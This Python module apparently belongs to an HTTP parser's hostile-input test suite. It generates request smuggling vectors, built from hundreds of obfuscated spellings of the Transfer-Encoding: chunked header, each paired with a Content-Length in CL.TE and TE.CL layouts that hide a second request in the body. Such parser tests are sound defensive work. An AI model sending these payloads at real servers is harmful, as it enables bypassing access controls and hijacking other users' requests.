"""Ways to write `Transfer-Encoding: chunked` so that one parser sees it and another does not, beside a length.

Each way is sent twice. As CL.TE the length covers everything and the chunks end early, with a request behind them; as
TE.CL the chunks hold the request and the length ends before it.
"""

from collections.abc import Iterator
from itertools import product

from tests.hostile.vectors import Vector, each, hidden, post

_NAME, _VALUE = b"Transfer-Encoding", b"chunked"
_ODD = [bytes([code]) for code in (*range(0x21), 0x22, 0x2C, 0x3B, 0x7F, 0x80, 0x85, 0xA0, 0xAD, 0xFF)]
_PLACES = (
    b"Transfer-Encoding%s: chunked", b"%sTransfer-Encoding: chunked", b"Transfer%sEncoding: chunked",
    b"Transfer-Encoding:%schunked", b"Transfer-Encoding: %schunked", b"Transfer-Encoding: chunked%s",
    b"Transfer-Encoding: chu%snked",
)  # fmt: skip
_VALUES = (
    b"", b" ", b"identity", b"cow", b"xchunked", b"chunkedx", b"chunked chunked", b"chunked, chunked", b",chunked",
    b"chunked,", b"chunked,,", b", ,chunked", b"identity, chunked", b"chunked, identity", b"identity,chunked,identity",
    b"gzip, chunked", b"chunked, gzip", b"deflate", b"compress, chunked", b"trailers, chunked", b'"chunked"', b"'chunked'",
    b"`chunked`", b"<chunked>", b"[chunked]", b"(chunked)", b"chunked;", b"chunked;q=1", b"chunked; foo=bar", b"chunked=1",
    b"chunked/1", b"chunked:", b": chunked", b"=chunked", b"chunked#", b"chunked\\", b"\\chunked", b"\\r\\nchunked",
    b"CHUNKED", b"Chunked", b"chunKed", b"chun\xe2\x84\xaaed", b"\xef\xbd\x83hunked", b"chunke\xcd\x84", b"\xef\xbb\xbfchunked",
    b"chunke", b"hunked", b"c", b"chunkedchunked", b"0", b"1", b"true", b"null", b"*", b"chunked" + b" " * 300,
    b"\t" * 300 + b"chunked", b"x" * 5000 + b", chunked", b"chunked\r\n", b"\r\n chunked", b"\r\n\tchunked",
    b"\r\n \r\n chunked", b"chunked\r\n x", b"identity\r\n chunked", b"\r\n chu\r\n nked", b"\r chunked", b"\n chunked",
    b"x\r\rchunked", b"\x0b\x0cchunked", b"chunked\x00x", b"chunked\nx: y",
)  # fmt: skip
_NAMES = (
    b"transfer-encoding", b"TRANSFER-ENCODING", b"tRANSFER-eNCODING", b"Transfer_Encoding", b"Transfer-encoding",
    b"Transfer--Encoding", b"Transfer.Encoding", b"TransferEncoding", b"Transfer-Encoding-", b"-Transfer-Encoding",
    b"X-Transfer-Encoding", b"Transfer-Encodin", b"Transfer-Encodings", b"TE", b"Content-Transfer-Encoding",
    b"Transfer-Coding", b"Transfer\xe2\x80\x90Encoding", b"\xef\xbb\xbfTransfer-Encoding", b"Transfer%2dEncoding",
    b'"Transfer-Encoding"', b"Transfer-Encoding:Transfer-Encoding", b"Foo: bar\nTransfer-Encoding",
    b"Foo: bar\rTransfer-Encoding", b"Foo\nTransfer-Encoding", b"Foo: bar\r\n Transfer-Encoding",
    b"Foo:\r\n\r\nTransfer-Encoding", b"Foo: bar\n\rTransfer-Encoding", b"Foo: bar\x00Transfer-Encoding",
)  # fmt: skip
_TWO = (b"chunked", b"identity", b"x", b"", b"gzip", b"CHUNKED", b"chunked, x")


def rows() -> Iterator[bytes]:
    """Each way to write the header."""
    yield from (place % odd for place, odd in product(_PLACES, _ODD))
    yield from (_NAME + b": " + value for value in _VALUES)
    yield from (name + b": chunked" for name in _NAMES)
    for first, second in product(_TWO, _TWO):
        yield b"Transfer-Encoding: %s\r\nTransfer-Encoding: %s" % (first, second)
    yield from (
        b"Transfer-Encoding: chunked\r\nX: y\r\ntransfer_encoding: x",
        b"Transfer-Encoding",
        b"Transfer-Encoding:",
    )


def vectors() -> Iterator[Vector]:
    """Both attacks for each way, and the length before or behind it."""
    yield from each("CL.TE", rows(), _length_covers_all)
    yield from each("TE.CL", rows(), _length_ends_early)


def _length_covers_all(number: int, row: bytes) -> bytes:
    body = b"0\r\n\r\n" + hidden(number)
    return post(number, [b"Content-Length: %d" % len(body), row], body)


def _length_ends_early(number: int, row: bytes) -> bytes:
    inner = hidden(number)
    size = b"%x\r\n" % len(inner)
    return post(number, [row, b"Content-Length: %d" % len(size)], size + inner + b"\r\n0\r\n\r\n")
